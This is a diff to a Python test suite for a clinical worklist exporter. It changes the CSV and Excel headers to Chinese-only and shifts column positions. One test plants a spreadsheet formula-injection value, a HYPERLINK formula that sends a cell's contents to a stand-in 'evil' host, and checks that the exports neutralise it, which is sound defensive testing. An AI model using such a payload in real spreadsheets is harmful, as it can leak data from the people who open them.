@@ -99,7 +99,7 @@ def test_filters_kind_hospital_and_due_window(sqlite_url: str) -> None:
     assert {(i["patient"], i["rule"]) for i in surgery} == {("P0003", "SCR-01"), ("P0003", "TX-02")}
 
 
-def test_csv_opens_in_excel_with_bilingual_headers(sqlite_url: str, tmp_path: Path) -> None:
+def test_csv_opens_in_excel_with_chinese_headers(sqlite_url: str, tmp_path: Path) -> None:
     out = tmp_path / "worklist.csv"
     result = _run(
         sqlite_url,
@@ -117,24 +117,23 @@ def test_csv_opens_in_excel_with_bilingual_headers(sqlite_url: str, tmp_path: Pa
     data = out.read_bytes()
     assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark: Excel reads Chinese
     table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
-    assert table[0][:4] == [
-        "评估日期 / as_of",
-        "紧急程度 / severity",
-        "截止 / due",
-        "患者编号 / patient",
-    ]
+    assert table[0][:5] == ["评估日期", "紧急程度", "截止日期", "逾期天数", "患者编号"]
     assert table[1] == [
         DAY,
         "高",
         "2026-08-24",
+        "37",
         "P0001",
+        "",
+        "",
         "his-a",
         "H01",
-        "oncology",
+        "肿瘤科",
         "ADH-03",
         "待办",
         "逾期超过4周：主动随访",
-        "drug=denosumab; due=2026-08-24; overdue_days=37",
+        "地舒单抗 逾期 37 天",
+        "药物 地舒单抗；到期日 2026-08-24；逾期 37天",
     ]
     assert len(table) == 3
 
@@ -288,8 +287,8 @@ def test_xlsx_for_nurses_needs_out_and_has_one_row_per_item(
     )
     assert result.exit_code == 0, result.output
     rows = list(load_workbook(out)["工作清单"].iter_rows(values_only=True))
-    assert rows[1][7] == "规则 / rule"
-    assert [row[7] for row in rows[2:]] == ["ADH-02", "ADH-02", "SAFE-05", "SAFE-14"]
+    assert rows[1][10] == "规则"
+    assert [row[10] for row in rows[2:]] == ["ADH-02", "ADH-02", "SAFE-05", "SAFE-14"]
 
 
 EVIL_ID = '=HYPERLINK("http://evil/?"&A1,"x")'
@@ -316,9 +315,9 @@ def test_csv_and_xlsx_never_carry_a_live_formula(hostile_url: str, tmp_path: Pat
     assert _run(hostile_url, *common, str(xlsx_out), "--format", "xlsx").exit_code == 0
 
     table = list(csv.reader(io.StringIO(csv_out.read_text(encoding="utf-8-sig"))))
-    assert ["'" + EVIL_ID, "his-a", "'@SUM(1+1)"] in [row[3:6] for row in table[1:]]
+    assert ["'" + EVIL_ID, "his-a", "'@SUM(1+1)"] in [[r[4], r[7], r[8]] for r in table[1:]]
 
     sheet = load_workbook(xlsx_out)["工作清单"]
     assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
     rows = list(sheet.iter_rows(min_row=3, values_only=True))
-    assert (EVIL_ID, "his-a", "@SUM(1+1)") in [row[3:6] for row in rows]
+    assert (EVIL_ID, "his-a", "@SUM(1+1)") in [(r[4], r[7], r[8]) for r in rows]
